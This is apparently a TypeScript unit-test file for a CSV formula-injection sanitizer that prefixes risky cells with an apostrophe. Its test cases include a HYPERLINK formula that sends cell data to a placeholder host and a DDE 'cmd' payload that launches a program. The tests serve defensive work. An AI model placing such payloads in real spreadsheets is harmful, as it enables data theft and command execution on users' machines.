import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from './formula-cell.ts';

describe('neutralizeFormula (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?d="&A1;"clic")', `'=HYPERLINK("http://x.example/?d="&A1;"clic")`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['-', "'-"],
    ['  =1+1', "'  =1+1"],
  ])('puts an apostrophe before a cell that begins like a formula: %j', (cell, written) =>
    expect(neutralizeFormula(cell)).toBe(written),
  );

  it.each(['-12,50', '-7', '+3.5', '0,00', '1234', '+33612345678'])(
    'leaves a plain number as it is, negative ones included: %s',
    (cell) => expect(neutralizeFormula(cell)).toBe(cell),
  );

  it.each(['', 'Honoraires', 'Dr =X', "'=already", 'a-b', ' Dr X', '2026-000010', 'F-77'])(
    'leaves text that does not begin like a formula as it is: %j',
    (cell) => expect(neutralizeFormula(cell)).toBe(cell),
  );
});
